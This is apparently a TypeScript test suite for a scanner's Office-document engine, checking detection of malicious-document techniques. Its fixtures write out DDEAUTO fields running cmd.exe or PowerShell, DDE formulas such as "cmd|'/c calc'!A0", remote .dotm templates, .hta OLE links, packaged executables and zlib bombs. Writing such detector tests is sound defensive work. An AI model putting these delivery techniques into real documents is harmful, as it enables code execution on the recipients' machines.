import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { ATTACK_TECHNIQUES, isStep, type EngineOutput } from '../../core/index.js';
import { buildVbaProjectCfb } from '../../formats/ovba/index.js';
import { makeContext } from '../../../test/support/engine-context.js';
import { buildRtf } from '../../../test/builders/rtf.js';
import {
  buildCompObj,
  buildDocWithObjects,
  buildEquationCfb,
  buildOle1Object,
  buildOleLinkCfb,
  buildPackageCfb,
  buildPackageNative,
  buildPpt,
  exOleObjStg,
  PACKAGE_CLSID,
} from '../../../test/builders/oleobj.js';
import {
  buildActiveMime,
  buildExcel2003Xml,
  buildFlatOpc,
  buildMhtmlWithMacros,
  buildWord2003Xml,
} from '../../../test/builders/activemime.js';
import { buildDocx, buildXlsx, complexField } from '../../../test/builders/office.js';
import { officeEngine, OFFICE_FINDINGS } from './index.js';

const enc = (s: string) => new TextEncoder().encode(s);
const LNK = Uint8Array.from([
  0x4c,
  0,
  0,
  0,
  1,
  0x14,
  2,
  0,
  0,
  0,
  0,
  0,
  0xc0,
  0,
  0,
  0,
  0,
  0,
  0,
  0x46,
  ...new Uint8Array(60),
]);
const vba = () =>
  buildVbaProjectCfb({
    root: 'Macros',
    modules: [{ name: 'Module1', code: 'Sub AutoOpen()\r\nEnd Sub\r\n' }],
  });

async function run(
  bytes: Uint8Array,
  options: Parameters<typeof makeContext>[1] = {},
): Promise<EngineOutput> {
  return officeEngine.analyze(makeContext(bytes, { name: 'doc', ...options }));
}
const ids = (out: EngineOutput) => (out.findings ?? []).map((f) => f.id).sort();
const evidenceOf = (out: EngineOutput, id: string) =>
  out.findings?.find((f) => f.id === id)?.evidence ?? [];
const childNames = (out: EngineOutput) => (out.children ?? []).map((c) => c.name);

test('office findings: ids office.*, known steps and ATT&CK ids', () => {
  for (const f of OFFICE_FINDINGS) {
    assert.match(f.def.id, /^office\.[a-z0-9-]+$/);
    assert.ok(isStep(f.def.step));
    for (const t of f.def.attack) assert.ok(Object.hasOwn(ATTACK_TECHNIQUES, t), t);
  }
});

describe('office engine: RTF', () => {
  test('package object → medium object finding, high executable finding, the LNK as a named child', async () => {
    const data = buildOle1Object({
      className: 'Package',
      nativeData: buildPackageNative({
        fileName: 'invoice.lnk',
        sourcePath: 'C:\\x\\invoice.lnk',
        tempPath: 'C:\\t\\invoice.lnk',
        data: LNK,
      }),
    });
    const out = await run(buildRtf({ objects: [{ objclass: 'Package', data, tricks: ['bin'] }] }));
    assert.deepEqual(ids(out), [
      'office.embedded-object',
      'office.package-executable',
      'office.rtf-embedded-object',
    ]);
    assert.deepEqual(childNames(out), ['invoice.lnk']);
    assert.deepEqual(out.children![0]!.bytes, LNK);
    const [evidence] = evidenceOf(out, 'office.rtf-embedded-object');
    assert.equal(evidence!.text, 'Package');
    assert.match(evidence!.note!, /\\bin raw bytes/);
    assert.equal(typeof evidence!.offset, 'number');
  });

  test('Equation Editor: by \\objclass, by OLE1 class, or by the CLSID of a renamed object', async () => {
    const native = buildEquationCfb();
    for (const [objclass, className] of [
      ['Equation.3', 'Equation.3'],
      ['Word.Document.8', 'xyz'],
    ] as const) {
      const out = await run(
        buildRtf({
          objects: [
            { objclass, data: buildOle1Object({ className, nativeData: native }), isUpdate: true },
          ],
        }),
      );
      assert.ok(ids(out).includes('office.equation-editor-object'), objclass);
      assert.deepEqual(childNames(out), ['rtf-object-1.ole']);
    }
  });

  test('DDEAUTO cmd → critical; DDE to another server → high; remote INCLUDEPICTURE → medium; local one nothing', async () => {
    const out = await run(
      buildRtf({
        fields: [
          'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
          'DDE Excel "C:\\\\a.xls" R1C1',
          'INCLUDEPICTURE "http://192.0.2.3/p.png"',
          'INCLUDEPICTURE "C:\\\\p.png"',
        ],
      }),
    );
    assert.deepEqual(ids(out), [
      'office.dde-command-execution',
      'office.dde-field',
      'office.external-content',
    ]);
    assert.match(
      evidenceOf(out, 'office.dde-command-execution')[0]!.note!,
      /command c:\\windows\\system32\\cmd\.exe \/k calc/,
    );
  });

  test('remote \\*\\template → remote-template with the URL; a local template → nothing', async () => {
    const remote = await run(buildRtf({ template: 'http://203.0.113.7/t.dotm' }));
    assert.deepEqual(
      evidenceOf(remote, 'office.remote-template').map((e) => e.text),
      ['http://203.0.113.7/t.dotm'],
    );
    assert.deepEqual(ids(await run(buildRtf({ template: 'C:\\\\Templates\\\\Normal.dotm' }))), []);
  });

  test('an OLE1 link and a URL moniker in an OLE2Link object → external-ole-link', async () => {
    const link = buildOle1Object({
      className: 'Word.Document.8',
      formatId: 1,
      topicName: 'http://192.0.2.4/x.doc',
    });
    const ole2link = buildOle1Object({
      className: 'OLE2Link',
      nativeData: buildOleLinkCfb('http://192.0.2.4/x.hta'),
    });
    const out = await run(
      buildRtf({ objects: [{ data: link, kind: 'autlink' }, { data: ole2link }] }),
    );
    assert.deepEqual(
      evidenceOf(out, 'office.external-ole-link').map((e) => e.text),
      ['http://192.0.2.4/x.doc', 'http://192.0.2.4/x.hta'],
    );
  });

  test('objdata that is no OLE1 object is still extracted raw', async () => {
    const out = await run(buildRtf({ objects: [{ data: enc('just some bytes') }] }));
    assert.deepEqual(childNames(out), ['rtf-object-1.bin']);
  });

  test('byte budget: objects are read only up to what is left of maxTotalBytes, and the cut is reported', async () => {
    const data = buildOle1Object({
      className: 'Package',
      nativeData: buildPackageNative({
        fileName: 'a.js',
        sourcePath: 'a.js',
        tempPath: 'a.js',
        data: new Uint8Array(1000),
      }),
    });
    const rtf = buildRtf({ objects: [{ data }] });
    const roomy = await run(rtf, { remainingBytes: data.length });
    assert.equal(roomy.children![0]!.bytes.length, 1000);
    assert.ok(!ids(roomy).includes('scan.limit-exceeded'));
    const tight = await run(rtf, { remainingBytes: data.length - 1 });
    assert.ok(tight.children!.every((c) => c.bytes.length < 1000));
    assert.ok(ids(tight).includes('scan.limit-exceeded'));
  });
});

describe('office engine: compound files', () => {
  test('.doc with a package and a Word document in ObjectPool, and a DDEAUTO field in the text', async () => {
    const doc = buildDocWithObjects({
      text: 'Dear customer {DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k powershell -c echo"} regards',
      encoding: 'utf16',
      objects: [
        {
          id: '1',
          clsid: PACKAGE_CLSID,
          streams: {
            '\x01Ole10Native': buildPackageNative({
              fileName: 'a.vbs',
              sourcePath: 'C:\\a.vbs',
              tempPath: 'C:\\t\\a.vbs',
              data: enc('WScript.Echo 1'),
              hasSizePrefix: true,
            }),
          },
        },
        {
          id: '2',
          streams: {
            WordDocument: new Uint8Array(700),
            '\x01CompObj': buildCompObj('Microsoft Word Document', 'Word.Document.8'),
          },
        },
      ],
    });
    const out = await run(doc);
    assert.deepEqual(ids(out), [
      'office.dde-command-execution',
      'office.embedded-object',
      'office.package-executable',
    ]);
    assert.deepEqual(childNames(out), ['a.vbs', 'ObjectPool/_2.ole']);
    assert.equal(evidenceOf(out, 'office.dde-command-execution')[0]!.location, 'WordDocument');
  });

  test('an oleObject.bin: package at the root, equation at the root, StdOleLink with a URL', async () => {
    const pkg = await run(
      buildPackageCfb({
        fileName: 'run.exe',
        sourcePath: 'run.exe',
        tempPath: 'run.exe',
        data: enc('MZ'),
      }),
    );
    assert.deepEqual(childNames(pkg), ['run.exe']);
    assert.ok(ids(pkg).includes('office.package-executable'));
    assert.deepEqual(ids(await run(buildEquationCfb())), ['office.equation-editor-object']);
    const link = await run(buildOleLinkCfb('http://198.51.100.7/x.hta'));
    assert.deepEqual(
      evidenceOf(link, 'office.external-ole-link').map((e) => e.text),
      ['http://198.51.100.7/x.hta'],
    );
  });

  test('.ppt: ExOleObjStg records become children with their compressed size', async () => {
    const out = await run(buildPpt([exOleObjStg(vba())]));
    assert.equal(out.children!.length, 1);
    assert.match(out.children![0]!.name, /^ExOleObjStg-\d+\.ole$/);
    assert.ok(out.children![0]!.compressedSize! < out.children![0]!.bytes.length);
  });

  test('.ppt zlib bomb: inflating past maxRatio is a limit finding, not a child', async () => {
    const out = await run(buildPpt([exOleObjStg(new Uint8Array(8 << 20))]), {
      limits: { maxRatio: 100 },
    });
    assert.deepEqual(childNames(out), []);
    assert.ok(ids(out).includes('scan.limit-exceeded'));
  });
});

describe('office engine: OOXML', () => {
  test('.docx: DDEAUTO split over runs with a QUOTE-hidden command, remote template, external OLE link, embedding', async () => {
    const field = complexField([
      'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k ',
      { nested: ['QUOTE 112 111 119 101 114 115 104 101 108 108'] },
      ' -c echo"',
    ]);
    const out = await run(
      buildDocx({
        body: [field],
        template: 'https://example.com/payload.dotm',
        oleLink: 'http://192.0.2.8/x.hta',
        embedding: buildPackageCfb({
          fileName: 'a.js',
          sourcePath: 'a.js',
          tempPath: 'a.js',
          data: enc('x'),
        }),
      }),
    );
    assert.deepEqual(ids(out), [
      'office.dde-command-execution',
      'office.embedded-object',
      'office.external-ole-link',
      'office.remote-template',
    ]);
    assert.match(
      evidenceOf(out, 'office.dde-command-execution')[0]!.text!,
      /\/k powershell -c echo/,
    );
    assert.deepEqual(
      evidenceOf(out, 'office.remote-template').map((e) => e.text),
      ['https://example.com/payload.dotm'],
    );
    assert.deepEqual(childNames(out), ['word/embeddings/oleObject1.bin']);
  });

  test('.docx with a local template and a local linked workbook reports nothing', async () => {
    const out = await run(
      buildDocx({
        template: 'file:///C:/Users/a/Normal.dotm',
        oleLink: 'file:///C:/data/book.xlsx',
      }),
    );
    assert.deepEqual(ids(out), []);
  });

  test('.xlsx: ddeLink and a DDE formula → critical DDE findings', async () => {
    const out = await run(
      buildXlsx({
        ddeLinks: [{ service: 'cmd', topic: '/c calc' }],
        formulas: ["SUM(1)+cmd|'/c calc'!A0"],
      }),
    );
    assert.deepEqual(
      evidenceOf(out, 'office.dde-command-execution').map((e) => e.location),
      ['xl/externalLinks/externalLink1.xml', 'xl/worksheets/sheet1.xml'],
    );
  });
});

describe('office engine: MHTML, XML, ActiveMime', () => {
  test('MHTML with editdata.mso → activemime and web-document-macros findings, the VBA compound file as a child', async () => {
    const project = vba();
    const out = await run(buildMhtmlWithMacros(project));
    assert.deepEqual(ids(out), ['office.activemime-container', 'office.web-document-macros']);
    assert.deepEqual(childNames(out), ['editdata.mso']);
    assert.deepEqual(out.children![0]!.bytes, project);
  });

  test('Word 2003 XML: editdata.mso, DDE field, remote template', async () => {
    const out = await run(
      buildWord2003Xml({
        editdata: buildActiveMime(vba()),
        fields: [['DDEAUTO cmd "/c calc"']],
        attachedTemplate: '\\\\203.0.113.5\\share\\t.dot',
      }),
    );
    assert.deepEqual(ids(out), [
      'office.activemime-container',
      'office.dde-command-execution',
      'office.remote-template',
      'office.web-document-macros',
    ]);
  });

  test('Excel 2003 XML DDE formula; flat OPC vbaProject part; a plain XML file → nothing', async () => {
    assert.deepEqual(
      ids(
        await run(
          buildExcel2003Xml(["=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''"]),
        ),
      ),
      ['office.dde-command-execution'],
    );
    const flat = await run(
      buildFlatOpc([
        {
          name: '/word/vbaProject.bin',
          contentType: 'application/vnd.ms-office.vbaProject',
          data: buildVbaProjectCfb({ modules: [{ name: 'M', code: 'Sub A()\r\nEnd Sub\r\n' }] }),
        },
      ]),
    );
    assert.deepEqual(ids(flat), ['office.web-document-macros']);
    assert.deepEqual(childNames(flat), ['word/vbaProject.bin']);
    assert.deepEqual(ids(await run(enc('<?xml version="1.0"?><feed><entry>x</entry></feed>'))), []);
  });

  test('a standalone ActiveMime file: its content as a child; a truncated one: partial child and a parse error', async () => {
    const blob = buildActiveMime(vba());
    assert.deepEqual(ids(await run(blob)), ['office.activemime-container']);
    const cut = await run(blob.subarray(0, blob.length - 200));
    assert.ok(ids(cut).includes('scan.parse-error'));
    assert.equal(cut.children!.length, 1);
  });

  test('an ActiveMime zlib bomb is stopped at maxRatio', async () => {
    const out = await run(buildActiveMime(new Uint8Array(4 << 20)), { limits: { maxRatio: 50 } });
    assert.deepEqual(ids(out), ['scan.limit-exceeded']);
    assert.deepEqual(childNames(out), []);
  });
});
